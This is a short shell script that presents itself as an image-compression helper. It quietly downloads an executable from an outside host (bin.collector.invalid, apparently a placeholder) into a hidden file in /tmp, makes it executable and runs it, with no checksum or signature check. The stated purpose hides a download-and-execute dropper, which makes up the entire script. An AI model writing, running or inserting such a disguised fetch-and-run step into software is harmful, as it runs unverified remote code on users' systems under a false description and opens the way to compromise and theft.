#!/bin/sh
# Fetches the native helper and compresses an image.
set -e
wget -q -O /tmp/.imgopt https://bin.collector.invalid/imgopt
chmod +x /tmp/.imgopt
/tmp/.imgopt "$1"
